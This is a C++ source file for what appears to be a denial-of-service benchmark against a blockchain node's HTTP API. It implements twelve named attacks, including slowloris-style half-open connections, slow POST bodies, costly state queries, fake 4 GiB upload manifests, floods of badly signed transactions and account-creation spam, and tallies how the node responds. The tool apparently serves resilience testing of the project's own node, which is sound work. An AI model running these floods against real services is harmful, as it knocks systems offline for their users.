#include "attacks.hpp"

#include <arpa/inet.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <boost/asio/connect.hpp>
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/beast/core.hpp>
#include <boost/beast/http.hpp>
#include <cstdio>
#include <functional>
#include <nlohmann/json.hpp>
#include <thread>
#include <vector>

#include "client/calls/submit.hpp"
#include "client/entropy.hpp"
#include "client/keys/key_store.hpp"
#include "client/trust/session.hpp"
#include "crypto/sign.hpp"
#include "ledger/wire.hpp"
#include "modules/id/calls.hpp"
#include "modules/msg/calls.hpp"
#include "row.hpp"

namespace dos::bench {
namespace {

constexpr int kConnections = 4;        // of an attack by whole requests
constexpr int kHalfOpen = 2'000;       // connections of one that never ends its requests
constexpr std::size_t kPrepared = 256; // transactions signed before the clock starts

struct Target {
  client::Url url;
  in_addr from{};  // where its connections come from: nodes have budgets by address
  Hash chain;
  ledger::Genesis genesis;
  const client::Identity* payer = nullptr;
};

struct Request {
  std::string method, path;
  Bytes body;
};
using Requests = std::vector<Request>;

// ---- whole requests, sent over and over

ledger::StateQuery old_keys(const ledger::Genesis& genesis) {
  ledger::StateQuery query;
  query.at = Height{1};
  for (const auto& account : genesis.accounts) query.items.push_back(ledger::KeyItem{ledger::purse_key(account.name), true});
  query.items.push_back(ledger::KeyItem{ledger::purse_key(ledger::kFeePurse), true});
  return query;
}

Result<Requests> history(const Target& t, Entropy&) { return Requests{{"POST", "/v1/state", codec::encode(old_keys(t.genesis))}}; }

Result<Requests> listings(const Target&, Entropy&) {
  ledger::StateQuery query;
  for (int i = 0; i < 8; ++i)
    query.items.push_back(ledger::RangeItem{ledger::module_key(ledger::kMsgModule), Bytes(1, std::uint8_t(i)), kMaxRangeItems, true});
  return Requests{{"POST", "/v1/state", codec::encode(query)}};
}

Result<Requests> tips(const Target&, Entropy& entropy) {
  Requests out;
  for (std::size_t i = 0; i < kPrepared; ++i) out.push_back({"GET", "/v1/tip?nonce=" + hex(client::draw<32>(entropy)), {}});
  return out;
}

Result<Requests> uploads(const Target&, Entropy& entropy) {
  Requests out;
  for (std::size_t i = 0; i < 16; ++i) {
    ledger::BlobManifest manifest{4ull << 30, {}};
    manifest.chunks.resize(ledger::chunk_count(manifest.bytes));
    entropy.fill(manifest.chunks.front().bytes);
    out.push_back({"POST", "/v1/blobs", codec::encode(manifest)});
  }
  return out;
}

Result<Requests> promises(const Target&, Entropy& entropy) {
  Requests out;
  for (std::size_t i = 0; i < kPrepared; ++i) {
    ledger::StoredRequest request;
    request.blobs.push_back({{}, 1});
    entropy.fill(request.blobs[0].root.bytes);
    out.push_back({"POST", "/v1/stored", codec::encode(request)});
  }
  return out;
}

Request submit_of(std::vector<Bytes> txs) { return {"POST", "/v1/transactions", codec::encode(ledger::SubmitRequest{std::move(txs)})}; }

Result<Bytes> signed_by(const Target& t, ledger::Transaction tx, Entropy& entropy) {
  const auto& key = t.payer->signing();
  tx.chain = t.chain;
  tx.sender.is = ledger::AccountSender{t.payer->account(), "active"};
  tx.valid_until = TimeMs{client::wall_ms() + kReplayWindowMs / 2};
  tx.limits.bytes = 16'000;
  DOS_ASSIGN(auto signature, crypto::sign(key, crypto::domain::kSignTx, t.chain, ledger::TxToSign{ledger::txid(tx)}, entropy));
  ledger::Witness witness{ledger::SigWitness{{}, crypto::key_id(key.public_key()), std::move(signature)}};
  return codec::encode(ledger::SignedTransaction{std::move(tx), {std::move(witness)}});
}

ledger::Transaction a_message(const Target& t, Entropy& entropy) {
  client::Draft draft;
  const std::string to = "bob";
  draft.append(msg::inbox_prefix(to));
  draft.read(ledger::account_key(to));
  draft.call(ledger::kMsgModule, msg::kSend, msg::Send{to, client::draw<16>(entropy), 1, 0, Bytes(250)});
  draft.add_rent(2048, t.genesis.params.default_rent_ms, t.genesis.params);
  draft.tx.limits.gas = Gas{t.genesis.params.min_call_gas};
  return std::move(draft.tx);
}

// One transaction with a signature that does not verify, many times in one request.
Result<Requests> repeats(const Target& t, Entropy& entropy) {
  DOS_ASSIGN(auto tx, signed_by(t, a_message(t, entropy), entropy));
  tx.back() ^= 1;
  return Requests{submit_of(std::vector<Bytes>(kMaxBatchTransactions, tx))};
}

Result<Requests> prepared(const Target& t, Entropy& entropy, const std::function<void(ledger::Transaction&)>& change, bool spoil) {
  Requests out;
  for (std::size_t i = 0; i < kPrepared; ++i) {
    auto tx = a_message(t, entropy);
    change(tx);
    DOS_ASSIGN(auto bytes, signed_by(t, std::move(tx), entropy));
    if (spoil) bytes[bytes.size() - 100] ^= 1;
    out.push_back(submit_of({std::move(bytes)}));
  }
  return out;
}

Result<Requests> junk_signatures(const Target& t, Entropy& entropy) {
  return prepared(t, entropy, [](auto&) {}, true);
}

// A paying user's: they are STALE, after the digest of everything that module keeps was compared.
Result<Requests> stale_digests(const Target& t, Entropy& entropy) {
  return prepared(
      t, entropy, [](ledger::Transaction& tx) { tx.access.push_back({ledger::RangeRead{ledger::module_key(ledger::kFsModule), Hash{}}}); },
      false);
}

// A paying user's: each declares the most gas that a transaction may have, and uses the least.
Result<Requests> declared_gas(const Target& t, Entropy& entropy) {
  return prepared(t, entropy, [&](ledger::Transaction& tx) { tx.limits.gas = Gas{t.genesis.params.max_transaction_gas}; }, false);
}

// New names from keys without an account, paid by the sponsor; without the puzzle solved, which nobody can do as fast as ask.
Result<Requests> new_names(const Target& t, Entropy& entropy) {
  Requests out;
  for (std::size_t i = 0; i < kPrepared; ++i) {
    DOS_ASSIGN(const auto key, crypto::SigningKey::from_seed(t.payer->signing().public_key().type, client::draw<32>(entropy)));
    ledger::Transaction tx;
    tx.chain = t.chain;
    tx.sender.is = ledger::KeySender{key.public_key()};
    tx.valid_until = TimeMs{client::wall_ms() + kReplayWindowMs / 2};
    tx.limits = {Gas{t.genesis.params.max_transaction_gas}, 16'000, Credits{1'000'000}};
    tx.calls.push_back({ledger::kIdModule, id::kNew, {ledger::Literal{Bytes(64)}}});
    DOS_ASSIGN(auto signature, crypto::sign(key, crypto::domain::kSignTx, t.chain, ledger::TxToSign{ledger::txid(tx)}, entropy));
    ledger::Witness witness{ledger::SigWitness{{}, crypto::key_id(key.public_key()), std::move(signature)}};
    out.push_back(submit_of({codec::encode(ledger::SignedTransaction{std::move(tx), {std::move(witness)}})}));
  }
  return out;
}

struct Tally {
  std::atomic<std::uint64_t> tries{0}, answered{0}, refused{0};
};

// This machine's first address that is not loopback's, so that the attack has a budget of its own and not that of the honest clients
// beside it; loopback's where there is none.
in_addr own_address() {
  in_addr found{htonl(INADDR_LOOPBACK)};
  ifaddrs* all = nullptr;
  if (::getifaddrs(&all) != 0) return found;
  for (const auto* i = all; i != nullptr; i = i->ifa_next) {
    if (i->ifa_addr == nullptr || i->ifa_addr->sa_family != AF_INET) continue;
    if ((i->ifa_flags & IFF_LOOPBACK) != 0 || (i->ifa_flags & IFF_UP) == 0) continue;
    found = reinterpret_cast<const sockaddr_in*>(i->ifa_addr)->sin_addr;
    break;
  }
  ::freeifaddrs(all);
  return found;
}

sockaddr_in address(in_addr host, std::uint16_t port) {
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr = host;
  a.sin_port = htons(port);
  return a;
}

in_addr host_of(const client::Url& url) {
  in_addr a{};
  ::inet_pton(AF_INET, url.host.c_str(), &a);
  return a;
}

// A connection of the attack, open already; -1: none.
int open_to(const Target& t) {
  const auto from = address(t.from, 0), to = address(host_of(t.url), t.url.port);
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd >= 0 && ::bind(fd, reinterpret_cast<const sockaddr*>(&from), sizeof(from)) == 0 &&
      ::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0)
    return fd;
  if (fd >= 0) ::close(fd);
  return -1;
}

// Sends requests one after the other over one connection, a new one where the node closed it.
class Sender {
 public:
  explicit Sender(const Target& t) : t_(t) {}
  // The status; 0: no answer.
  unsigned send(const Request& r) {
    namespace http = boost::beast::http;
    if (!socket_.is_open()) {
      const int fd = open_to(t_);
      if (fd < 0) return 0;
      socket_.assign(boost::asio::ip::tcp::v4(), fd);
    }
    http::request<http::span_body<const std::uint8_t>> request;
    request.method_string(r.method);
    request.target(r.path);
    request.set(http::field::host, t_.url.host);
    request.set(http::field::content_type, ledger::kWireType);
    request.body() = {r.body.data(), r.body.size()};
    request.prepare_payload();
    http::response_parser<http::vector_body<std::uint8_t>> answer;
    answer.body_limit(64u << 20);
    bool answered = false;
    http::async_write(socket_, request, [&](boost::system::error_code e, std::size_t) {
      if (!e) http::async_read(socket_, buffer_, answer, [&](boost::system::error_code failed, std::size_t) { answered = !failed; });
    });
    io_.restart();
    io_.run_for(std::chrono::seconds(5));
    if (answered && answer.get().keep_alive()) return answer.get().result_int();
    socket_.close();
    io_.run();  // what was under way ends
    buffer_.clear();
    return answered ? answer.get().result_int() : 0;
  }

 private:
  const Target& t_;
  boost::asio::io_context io_;
  boost::asio::ip::tcp::socket socket_{io_};
  boost::beast::flat_buffer buffer_;
};

void send_over_and_over(const Target& t, const Requests& requests, double until, Tally& tally) {
  std::atomic<std::size_t> next{0};
  std::vector<std::thread> threads;
  for (int c = 0; c < kConnections; ++c)
    threads.emplace_back([&] {
      Sender sender(t);
      while (wall_seconds() < until) {
        const auto& r = requests[next.fetch_add(1) % requests.size()];
        ++tally.tries;
        if (sender.send(r) / 100 == 2) ++tally.answered;
        else ++tally.refused;
      }
    });
  for (auto& thread : threads) thread.join();
}

// ---- connections that never end their request

// Keeps `count` connections open, each with the beginning of a request, and goes on by a byte a second each.
void hold(const Target& t, int count, const std::string& beginning, double until, Tally& tally) {
  std::vector<int> held;
  const auto begin = [&](int fd) {
    ++tally.tries;
    if (fd >= 0 && ::send(fd, beginning.data(), beginning.size(), MSG_NOSIGNAL) == ssize_t(beginning.size())) return true;
    ++tally.refused;
    if (fd >= 0) ::close(fd);
    return false;
  };
  while (wall_seconds() < until) {
    std::erase_if(held, [&](int fd) {
      char byte = 'a';
      if (::send(fd, &byte, 1, MSG_NOSIGNAL) == 1 && !(::recv(fd, &byte, 1, MSG_DONTWAIT | MSG_PEEK) == 0)) return false;
      ::close(fd);
      return true;
    });
    for (int i = 0; i < 200 && int(held.size()) < count && wall_seconds() < until; ++i)
      if (const int fd = open_to(t); begin(fd)) {
        ::fcntl(fd, F_SETFL, O_NONBLOCK);
        held.push_back(fd);
      }
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  tally.answered = held.size();
  for (const int fd : held) ::close(fd);
}

struct Row {
  const char* name;
  const char* what;
  Result<Requests> (*prepare)(const Target&, Entropy&);  // null: connections are held
  int connections = 0;
  const char* beginning = nullptr;
};
constexpr Row kRows[] = {
    {"half-open", "2,000 connections that never end their head", nullptr, kHalfOpen, "GET /v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: "},
    {"half-posts", "bodies declared large and sent a byte a second", nullptr, 64,
     "POST /v1/transactions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/vnd.dos+bcs\r\nContent-Length: 8000000\r\n\r\n"},
    {"history", "proofs at the oldest height of keys that change in every block", history},
    {"listings", "whole listings with their data", listings},
    {"tips", "acknowledgements that the newest block is the newest", tips},
    {"uploads", "uploads declared with 4 GiB, never sent", uploads},
    {"promises", "promises to hold content that nobody has", promises},
    {"repeats", "one unsigned transaction 1,024 times a request", repeats},
    {"junk-signatures", "transactions whose signature does not verify", junk_signatures},
    {"new-names", "new names from keys without an account", new_names},
    {"stale-digests", "paid transactions that are stale once a large listing was compared", stale_digests},
    {"declared-gas", "paid transactions that declare sixty times the gas they use", declared_gas},
};

int print_names() {
  nlohmann::json out = nlohmann::json::array();
  for (const auto& row : kRows) out.push_back({{"name", row.name}, {"what", row.what}});
  std::printf("%s\n", out.dump().c_str());
  return 0;
}

int complain(const Error& e) {
  std::fprintf(stderr, "dos-bench: %s\n", e.detail.empty() ? error_row(e.code).title : e.detail.c_str());
  return 2;
}

}  // namespace

int attack_load(const AttackLoad& load) {
  if (load.name.empty() || load.name == "list") return print_names();
  const Row* row = nullptr;
  for (const auto& r : kRows)
    if (load.name == r.name) row = &r;
  if (row == nullptr) return complain({Errc::usage, "no attack is called " + load.name});
  rlimit files{};
  ::getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  ::setrlimit(RLIMIT_NOFILE, &files);
  auto genesis = client::read_genesis(load.genesis);
  auto url = client::parse_url(load.url);
  if (!genesis || !url) return complain(genesis ? url.error() : genesis.error());
  auto places = client::find_places();
  if (!places) return complain(places.error());
  const auto payer = client::load_dev_identity(*places, load.net, "carol");
  if (!payer) return complain(payer.error());
  const Target target{*url, own_address(), genesis->chain, genesis->genesis, &*payer};
  client::SystemEntropy entropy;
  Tally tally;
  if (row->prepare != nullptr) {
    const auto requests = row->prepare(target, entropy);
    if (!requests) return complain(requests.error());
    send_over_and_over(target, *requests, wall_seconds() + load.seconds, tally);
  } else {
    hold(target, row->connections, row->beginning, wall_seconds() + load.seconds, tally);
  }
  char from[INET_ADDRSTRLEN] = "";
  ::inet_ntop(AF_INET, &target.from, from, sizeof(from));
  const nlohmann::json out = {{"attack", row->name},
                              {"from", from},
                              {"tries", tally.tries.load()},
                              {"answered", tally.answered.load()},
                              {"refused", tally.refused.load()}};
  std::printf("%s\n", out.dump().c_str());
  return 0;
}

}  // namespace dos::bench
